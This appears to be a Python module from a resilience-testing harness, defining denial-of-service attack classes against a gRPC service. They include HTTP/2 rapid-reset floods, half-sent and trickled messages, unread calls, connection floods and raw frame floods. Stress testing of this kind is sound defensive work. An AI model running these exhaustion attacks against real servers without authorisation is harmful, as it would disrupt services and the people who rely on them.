"""The kinds of attacks on gRPC servers, one class for each. hostile_calls.py has the attacks by
name."""

import select
import struct

import hostile_messages as say
from http2_peer import PREFACE, SETTINGS, Http2Peer, connect, frame

STORE, WORKER = "/hearth.v1.CacheStore/", "/hearth.v1.Inference/"
MIB = 1 << 20
STREAMS = 250  # streams of one connection; a server allows 256


class Target:
    """A server's address, and the attacker's token (empty: none)."""

    def __init__(self, address, token=""):
        self.address, self.token = address, token

    def fields(self):
        return [("authorization", "Bearer " + self.token)] if self.token else []


class Attack:
    """An attack on a server. It repeats one small action, a unit: for example a call or a
    connection. unit() does one more action. pump() continues open connections. Neither method
    waits for the server."""

    def __init__(self, target):
        self.target, self.units, self.closed = target, 0, 0
        self.unconnected = 0  # units that failed because no connection could be made

    def unit(self):
        self.units += 1

    def pump(self):
        pass

    def figures(self):
        return {"units": self.units, "closed": self.closed, "unconnected": self.unconnected}

    def close(self):
        pass


class Peers(Attack):
    """An attack over a few connections; replaces a connection that the server has closed."""

    connections, takes = 4, True

    def __init__(self, target):
        super().__init__(target)
        self.peers = [None] * self.connections

    def peer(self):
        at = self.units % self.connections
        self.units += 1
        if self.peers[at] is None or self.peers[at].ended:
            self.forget(at)
            try:
                self.peers[at] = self.begin(Http2Peer(self.target.address, self.takes))
            except OSError:
                self.unconnected += 1
                return None
        return self.peers[at]

    def begin(self, peer):
        return peer

    def forget(self, at):
        if self.peers[at] is not None:
            self.closed += 1
            self.peers[at].close()
        self.peers[at] = None

    def pump(self):
        for peer in self.peers:
            while peer is not None and peer.step():
                pass

    def close(self):
        for peer in self.peers:
            if peer is not None:
                peer.close()


class Calls(Peers):
    """Sends complete calls; at most `most_open` unanswered calls on a connection."""

    def __init__(self, target, calls, most_open=4, fields=None, packed=False):
        super().__init__(target)
        self.calls, self.most_open, self.packed = calls, most_open, packed
        self.fields = target.fields() if fields is None else fields

    def unit(self):
        peer = self.peer()
        if peer is None or len(peer.streams) >= self.most_open:
            return
        path, message = self.calls[self.units % len(self.calls)]
        peer.call(path, message() if callable(message) else message, self.fields, self.packed)


class HalfSent(Peers):
    """Opens streams whose messages are never complete."""

    def __init__(self, target, paths):
        super().__init__(target)
        self.paths = paths

    def unit(self):
        peer = self.peer()
        if peer is not None and len(peer.streams) < STREAMS:
            size = say.MESSAGE_BYTES - 1000
            peer.open(self.paths[self.units % len(self.paths)], size, size + 1000,
                      fields=self.target.fields())


class Resets(Peers):
    """Begins calls and resets them at once."""

    def __init__(self, target, path):
        super().__init__(target)
        self.path = path

    def unit(self):
        peer = self.peer()
        for _ in range(50 if peer is not None and peer.unsent_bytes() < MIB else 0):
            peer.reset(peer.call(self.path, b"", self.target.fields()))
        if peer is not None:
            peer.streams.clear()


class Leases(Peers):
    """Requests leases on new prompts; at the limit of streams, resets the oldest call."""

    def unit(self):
        peer = self.peer()
        if peer is None or peer.unsent_bytes() > MIB:
            return
        if len(peer.streams) >= STREAMS // self.connections:
            peer.reset(peer.streams.pop(next(iter(peer.streams))))
        tokens = range(self.units, self.units + 200)
        peer.call(STORE + "Lease", say.lease(say.prefix(tokens)), self.target.fields())


class Trickle(Peers):
    """Sends publishes that receive one more byte in each unit."""

    def __init__(self, target, streams=64):
        super().__init__(target)
        self.begin_message = say.publish_begin(range(say.CHUNK_TOKENS), 1, say.fingerprint())
        self.each = streams // self.connections

    def unit(self):
        peer = self.peer()
        if peer is None:
            return
        if len(peer.streams) < self.each:
            head = self.begin_message + b"\0" + struct.pack(">I", MIB)
            peer.open(STORE + "Publish", 0, len(self.begin_message), head, self.target.fields())
        for stream in peer.streams.values():
            stream.zeros += 1


class Unread(Peers):
    """Sends calls without reading the answers."""

    takes = False

    def __init__(self, target, path, message, each=16):
        super().__init__(target)
        self.path, self.message, self.each = path, message, each

    def unit(self):
        peer = self.peer()
        if peer is not None and len(peer.streams) < self.each:
            peer.call(self.path, self.message, self.target.fields())


class Staging(Peers):
    """Publishes a large slice without its last piece."""

    def __init__(self, target, each=4):
        super().__init__(target)
        model = say.fingerprint(kv_heads=4, head_dim=4096)  # slices of 16 MiB
        begin = say.publish_begin(range(say.CHUNK_TOKENS), 1, model)
        pieces = [say.publish_piece(at * MIB, bytes(MIB)) for at in range(15)]
        self.begin_bytes, self.each = len(begin), each
        self.messages = begin + b"".join(b"\0" + struct.pack(">I", len(m)) + m for m in pieces)

    def unit(self):
        peer = self.peer()
        if peer is None:
            return
        if len(peer.streams) >= self.each:
            peer.reset(next(iter(peer.streams.values())))
            peer.streams.pop(next(iter(peer.streams)))
        peer.open(STORE + "Publish", 0, self.begin_bytes, self.messages, self.target.fields())


class Connects(Attack):
    """Opens a connection, sends only `first`, and keeps the last `keep` connections open."""

    def __init__(self, target, first=b"", keep=0):
        super().__init__(target)
        self.first, self.keep, self.open = first, keep, []

    def unit(self):
        self.units += 1
        try:
            peer = connect(self.target.address)
        except OSError:
            self.unconnected += 1
            return
        self.open.append(peer)
        try:
            first = self.first() if callable(self.first) else self.first
            if first:
                peer.send(first)
        except OSError:
            self.closed += 1
        while len(self.open) > self.keep:
            self.open.pop(0).close()

    def close(self):
        for peer in self.open:
            peer.close()


class Frames(Attack):
    """Sends HTTP/2 frames that carry no messages, without reading the answers."""

    def __init__(self, target, frames, first=b""):
        super().__init__(target)
        self.frames, self.first, self.socket, self.out = frames, first, None, b""

    def unit(self):
        self.units += 1
        if len(self.out) < MIB:
            self.out += self.frames
        self.pump()

    def pump(self):
        try:
            if self.socket is None:
                self.socket = connect(self.target.address)
                self.out = PREFACE + frame(SETTINGS, 0, 0) + self.first + self.frames
        except OSError:
            self.unconnected += 1
            return
        try:
            if select.select([], [self.socket], [], 0)[1]:
                self.out = self.out[self.socket.send(self.out):]
        except OSError:
            self.closed += 1
            self.close()

    def close(self):
        if self.socket is not None:
            self.socket.close()
        self.socket = None
